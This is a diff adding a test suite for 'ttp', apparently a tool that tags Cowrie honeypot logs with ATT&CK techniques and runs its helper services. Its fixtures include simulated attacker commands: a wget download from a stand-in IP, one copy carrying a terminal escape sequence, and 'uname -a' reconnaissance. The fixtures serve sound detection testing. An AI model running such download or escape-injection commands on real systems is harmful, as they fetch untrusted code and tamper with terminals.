@@ -1,0 +1,136 @@
+// SPDX-License-Identifier: AGPL-3.0-or-later
+import { once } from 'node:events';
+import { existsSync, readdirSync } from 'node:fs';
+import { createServer, type AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as delay } from 'node:timers/promises';
+import { aCowrieSession, aFolder, cleanUp, survivors, Ttp, ttp } from './ttp';
+
+/** What the shipped rules say of the sample log. */
+const SAMPLE_RESULT = {
+  sessions: 46,
+  commands: 165,
+  tags: 77,
+  techniques: { T1003: 1, T1016: 3, T1033: 7, T1046: 4, T1049: 1, T1053: 2, T1059: 10, T1070: 4, T1082: 14, T1083: 6, T1098: 1, T1105: 14, T1136: 1, T1505: 1, T1548: 4, T1595: 4 },
+  published: 21,
+  duration_ms: expect.any(Number),
+};
+
+const temporaryData = () => readdirSync(tmpdir()).filter((name) => name.startsWith('ttp-up-'));
+
+afterAll(cleanUp);
+
+describe('ttp up --once', () => {
+  it('tags the sample log, prints one JSON document and leaves nothing behind', async () => {
+    const before = temporaryData();
+    const run = new Ttp(['up', '--demo', '--once', '--json']);
+    await run.says(/(tagging)/);
+    const running = run.descendants();
+    const { code, stdout, stderr } = await run.ended;
+    expect(stdout).toMatch(/^\{.*\}\n$/);
+    expect(JSON.parse(stdout)).toEqual(SAMPLE_RESULT);
+    expect(stderr).toMatch(/^starting .*\nimporting .*cowrie-sample\.json\ntagging\nreading the result\ndraining\n$/);
+    expect(code).toBe(0);
+    expect(running.length).toBeGreaterThanOrEqual(5);
+    expect(await survivors(running)).toEqual([]);
+    expect(temporaryData()).toEqual(before);
+  });
+
+  it('takes the log that is named, relative to the caller, and shows hostile text harmless', async () => {
+    const folder = aFolder({ 'cowrie.json': aCowrieSession('5e55', ['wget http://192.0.2.1/x \u001b[2J', 'true']) });
+    const { code, stdout } = await ttp(['up', '--demo', '--cowrie', 'cowrie.json', '--once'], { env: { INIT_CWD: folder } });
+    expect(stdout).toMatch(/^192\.0\.2\.7\n/);
+    expect(stdout).toMatch(/T1105 +Ingress Tool Transfer .* wget http:\/\/192\.0\.2\.1\/x \\x1b\[2J\n/);
+    expect(stdout).toMatch(/\n1 sessions, 2 commands: \d+ tags of \d+ techniques, \d announcements, in \d+\.\d s\n$/);
+    expect(stdout).not.toContain('\u001b');
+    expect(code).toBe(0);
+  });
+
+  it('leaves with 3 and the reason when the rules cannot be read', async () => {
+    const { code, stdout, stderr } = await ttp(['up', '--demo', '--once', '--json', '--rules', '/nonexistent']);
+    expect({ code, stdout }).toEqual({ code: 3, stdout: '' });
+    expect(stderr).toMatch(/ttp: \S+ ended with exit code 3 while starting\n[^]*\/nonexistent/);
+    expect(stderr).not.toMatch(/^\s+at /m);
+  });
+
+  it('leaves with 1 and the address when a port is taken', async () => {
+    const taken = createServer().listen(0, '127.0.0.1');
+    await once(taken, 'listening');
+    const { port } = taken.address() as AddressInfo;
+    const { code, stderr } = await ttp(['up', '--demo', '--once', '--port', String(port)]);
+    taken.close();
+    expect(code).toBe(1);
+    expect(stderr).toMatch(new RegExp(`ttp: export-api ended with exit code 1 while starting\\n[^]*address already in use 127\\.0\\.0\\.1:${port}`));
+  });
+
+  it('leaves with 1 for a log that cannot be read, before anything is started', async () => {
+    const { code, stdout, stderr } = await ttp(['up', '--cowrie', '/nonexistent/cowrie.json', '--once']);
+    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
+    expect(stderr).toMatch(/^ttp: .*\/nonexistent\/cowrie\.json/);
+  });
+
+  it('interrupted while it starts, and again, stops all that had started, and says by 1 that there is no result', async () => {
+    const before = temporaryData();
+    const run = new Ttp(['up', '--demo', '--once', '--json']);
+    while (!run.descendants().some(({ args }) => args.includes('ttp-worker'))) await delay(20);
+    const running = run.descendants();
+    // Supervisors repeat a SIGTERM: it stays one.
+    for (let times = 0; times < 3; times++) run.child.kill('SIGTERM');
+    expect(await run.ended).toMatchObject({ code: 1, signal: null, stdout: '' });
+    expect(await survivors(running)).toEqual([]);
+    expect(temporaryData()).toEqual(before);
+  });
+
+  it('leaves with 1 and the name of a service that is lost', async () => {
+    // Long enough to be under way when the worker goes.
+    const sessions = Array.from({ length: 500 }, (_, i) => aCowrieSession(`5e55${i}`, ['uname -a', 'wget http://192.0.2.1/x']));
+    const run = new Ttp(['up', '--cowrie', join(aFolder({ 'cowrie.json': sessions.join('') }), 'cowrie.json'), '--once']);
+    await run.says(/(importing)/);
+    kill(run, 'ttp-worker');
+    expect(await run.ended).toMatchObject({ code: 1, stdout: '', stderr: expect.stringContaining('\nttp: ttp-worker ended with SIGKILL\n') });
+  });
+});
+
+describe('ttp up', () => {
+  it('stays up with answering URLs, starts a lost service again under its URL, satisfies the doctor, and drains on Ctrl-C', async () => {
+    const data = join(aFolder(), 'data');
+    const run = new Ttp(['up', '--data', data]);
+    await run.says(/(Ctrl-C drains and stops)/);
+    const url = { techniques: await run.says(/techniques +(\S+)/), rules: await run.says(/rules +(http\S+)/), metrics: await run.says(/metrics +(\S+)/) };
+    const answers = await Promise.all(Object.values(url).map(async (one) => (await fetch(one)).status));
+    expect(answers).toEqual([200, 200, 200]);
+
+    kill(run, 'ttp-worker');
+    await run.says(/(ttp-worker ended with SIGKILL; starting it again)/);
+    for (let tries = 0; tries < 200 && !(await isUp(url.metrics)); tries++) await delay(50);
+    expect((await fetch(url.metrics)).status).toBe(200);
+
+    const doctor = await ttp(['doctor', '--nats', await run.says(/broker +(nats\S+)/), '--db-path', join(data, 'ttp.sqlite')]);
+    expect(doctor.stdout).toMatch(/^ok +catalogue .*\nok +rules .*\nok +broker .*\nok +streams .*\nok +worker .*\nok +dlq +empty\nok +database +sqlite, schema current\n$/);
+    expect(doctor.code).toBe(0);
+
+    const running = run.descendants();
+    expect(running.filter(({ args }) => args.includes('dist/apps/'))).toHaveLength(4);
+    const { code, stdout } = await run.interrupt();
+    expect({ code, stdout }).toEqual({ code: 0, stdout: '' });
+    expect(await survivors(running)).toEqual([]);
+    expect(existsSync(join(data, 'ttp.sqlite'))).toBe(true);
+  });
+
+  it('takes its services with it when it is killed outright', async () => {
+    const run = new Ttp(['up', '--data', join(aFolder(), 'data')]);
+    await run.says(/(Ctrl-C drains and stops)/);
+    const running = run.descendants();
+    run.child.kill('SIGKILL');
+    await run.ended;
+    for (let tries = 0; tries < 5 && (await survivors(running)).length > 0; tries++) await delay(500);
+    expect(await survivors(running)).toEqual([]);
+  });
+});
+
+const isUp = (url: string) => fetch(url).then(({ ok }) => ok, () => false);
+
+function kill(run: Ttp, service: string): void {
+  for (const { pid, args } of run.descendants()) if (args.includes(service)) process.kill(pid, 'SIGKILL');
+}
